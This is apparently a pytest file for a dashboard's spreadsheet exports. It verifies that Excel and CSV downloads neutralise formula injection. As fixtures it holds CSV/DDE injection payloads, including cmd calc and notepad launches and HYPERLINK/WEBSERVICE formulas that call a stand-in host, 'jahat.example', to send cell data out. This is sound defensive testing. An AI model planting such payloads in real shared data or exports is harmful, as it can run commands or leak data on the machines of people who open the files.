"""Every spreadsheet the dashboard hands out is safe to open: no cell can run as a formula.

Region and item names are shared data any office with database access could change. Here they
are set to formula and DDE payloads (cells starting with = + - @ tab or CR), then every export
is fetched over HTTP as a user would: the stock table as Excel and as CSV, and the upload
templates (.xlsx with its code sheet, and .csv). No cell is a formula, no text cell starts with
a trigger character, and each payload is still there, as text behind an apostrophe.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from dashboard.db import models
from dashboard.db.engine import buat_engine, pembuat_sesi
from dashboard.domain.akses import Akun
from dashboard.extensions import db
from dashboard.factory import create_app
from dashboard.services import keputusan, paket, presentasi
from dashboard.services.ekspor import AWALAN_FORMULA
from dashboard.tools.demo import KATA_SANDI_DEMO
from tests.support.pengaturan import settings_uji

JAHAT_WILAYAH = {
    "33": '=HYPERLINK("http://jahat.example/?"&A1,"Jawa Tengah")',
    "33.74": "=cmd|' /C calc'!A0",
    "33.01": "+628123456789",
    "33.02": "-2+3+cmd|' /C notepad'!A0",
    "33.03": "@SUM(1+1)*cmd|' /C calc'!A0",
    "33.04": "\t=1+1",
    "33.05": "\r=1+1",
}
JAHAT_JENIS = {"nama": '=WEBSERVICE("http://jahat.example")', "satuan": "@lembar"}
ANGKA = re.compile(r"^-?\d+(,\d+)?$")  # a number in the Indonesian CSV (negative allowed)


@pytest.fixture(scope="module")
def app(demo33, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    salinan = tmp_path_factory.mktemp("ekspor") / "kendali.db"
    shutil.copy(demo33[0].removeprefix("sqlite:///"), salinan)
    url = f"sqlite:///{salinan}"
    engine = buat_engine(url)
    with pembuat_sesi(engine, tulis=True)() as s, s.begin():
        for kode, nama in JAHAT_WILAYAH.items():
            s.execute(update(models.Wilayah).where(models.Wilayah.kode == kode).values(nama=nama))
        s.execute(
            update(models.JenisLogistik)
            .where(models.JenisLogistik.kode == "KOTAK")
            .values(**JAHAT_JENIS)
        )
    engine.dispose()
    return create_app(settings_uji(url))


def _unduh_stok(app, format_: str) -> tuple[str, bytes]:  # type: ignore[no-untyped-def]
    """Press a stock download button (for the KOTAK item); return the file name and bytes."""
    unduhan, tombol = f"stok-unduhan-{format_}", f"stok-unduh-{format_}"
    badan = {
        "output": f"{unduhan}.data",
        "outputs": {"id": unduhan, "property": "data"},
        "inputs": [{"id": tombol, "property": "n_clicks", "value": 1}],
        "changedPropIds": [f"{tombol}.n_clicks"],
        "state": [{"id": "stok-jenis", "property": "value", "value": "KOTAK"}],
    }
    r = app.server.test_client().post("/_dash-update-component", json=badan)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    berkas = r.get_json()["response"][unduhan]["data"]
    isi = base64.b64decode(berkas["content"]) if berkas["base64"] else berkas["content"].encode()
    return berkas["filename"], isi


def _templat(app, nama: str) -> bytes:  # type: ignore[no-untyped-def]
    klien = app.server.test_client()
    masuk = {"username": "admin.33", "kata_sandi": KATA_SANDI_DEMO}
    assert klien.post("/masuk", data=masuk).status_code == 302
    r = klien.get(f"/input/templat/{nama}")
    assert r.status_code == 200
    return r.data


def _periksa_xlsx(isi: bytes) -> list[str]:
    """Assert no cell of any sheet is a formula or starts with a trigger; return all text."""
    wb = load_workbook(io.BytesIO(isi))
    teks = []
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for sel in baris:
                assert sel.data_type != "f", f"{ws.title}!{sel.coordinate} is a formula"
                if isinstance(sel.value, str):
                    assert not sel.value.startswith(AWALAN_FORMULA), (ws.title, sel.coordinate)
                    teks.append(sel.value)
    return teks


def _periksa_csv(isi: bytes, pemisah: str) -> list[str]:
    teks = []
    for baris in csv.reader(io.StringIO(isi.decode("utf-8-sig")), delimiter=pemisah):
        for sel in baris:
            if sel and not ANGKA.match(sel):
                assert not sel.startswith(AWALAN_FORMULA), sel
                teks.append(sel)
    return teks


def _semua_ada(teks: list[str], payload: list[str]) -> None:
    # XML reads a carriage return back as a line feed; the apostrophe is what matters.
    teks = [t.replace("\r", "\n") for t in teks]
    for p in payload:
        awal = ("'" + p).replace("\r", "\n")
        assert any(t.startswith(awal) for t in teks), f"{p!r} missing or changed"


def test_stock_excel_export_neutralises_every_formula(app) -> None:
    nama, isi = _unduh_stok(app, "excel")
    assert nama.endswith(".xlsx")
    teks = _periksa_xlsx(isi)
    kabkota = [v for k, v in JAHAT_WILAYAH.items() if k != "33"]
    _semua_ada(teks, [*kabkota, JAHAT_WILAYAH["33"], JAHAT_JENIS["nama"]])


def test_stock_csv_export_neutralises_every_formula(app) -> None:
    nama, isi = _unduh_stok(app, "csv")
    assert nama.endswith(".csv")
    teks = _periksa_csv(isi, ";")
    _semua_ada(teks, [v for k, v in JAHAT_WILAYAH.items() if k != "33"])


def test_upload_templates_neutralise_every_formula(app) -> None:
    teks = _periksa_xlsx(_templat(app, "terima_penyedia.xlsx"))
    _semua_ada(teks, [*(v for k, v in JAHAT_WILAYAH.items() if k != "33"), *JAHAT_JENIS.values()])
    _periksa_csv(_templat(app, "kirim.csv"), ",")


def test_meeting_pack_workbook_neutralises_every_formula(app) -> None:
    """The workbook inside /unduh/paket-rapat.zip (cetak.paket_rapat builds it with this call);
    decisions are free text typed in the meeting, so they carry payloads too."""
    with app.server.app_context():
        with db.sesi_baca() as s:
            p = s.scalar(select(models.Pengguna).where(models.Pengguna.username == "admin.33"))
            admin = Akun(p.id, p.username, p.nama, p.peran, p.wilayah_kode)
        isi, pj = "=cmd|' /C calc'!A0 kirim ulang segel", "@Kasubag Logistik"
        keputusan.tambah(admin, "33", "33.74", isi, pj, None)
        buku = paket.buku_rapat(presentasi.data_rapat("33"), keputusan.daftar())
    teks = _periksa_xlsx(buku)
    _semua_ada(teks, [isi, pj, *(v for k, v in JAHAT_WILAYAH.items() if k != "33")])


def test_evaluation_workbook_neutralises_every_formula(app) -> None:
    """/unduh/evaluasi.xlsx, fetched as a reader would: the kab/kota names in every sheet."""
    r = app.server.test_client().get("/unduh/evaluasi.xlsx")
    assert r.status_code == 200, r.get_data(as_text=True)[:200]
    teks = _periksa_xlsx(r.data)
    _semua_ada(teks, [v for k, v in JAHAT_WILAYAH.items() if len(k) == 5])


def test_no_other_download_route_exists_unchecked(app) -> None:
    """Every route that hands out a spreadsheet is covered above; a new one must be added.

    /unduh/laporan/<kode> hands out PNG and PDF only; /unduh/paket-rapat.zip holds PDFs and
    the workbook checked above.
    """
    bentuk = {
        str(r)
        for r in app.server.url_map.iter_rules()
        if any(x in str(r) for x in ("templat", "unduh", "ekspor", "xlsx", "csv"))
    }
    assert bentuk == {
        "/input/templat/<jenis>.<format_>",
        "/unduh/paket-rapat.zip",
        "/unduh/laporan/<kode>.<bentuk>",
        "/unduh/evaluasi.<bentuk>",
    }, bentuk
    unduhan = {k for k in app.callback_map if "unduh" in k}
    assert unduhan == {"stok-unduhan-excel.data", "stok-unduhan-csv.data"}, unduhan
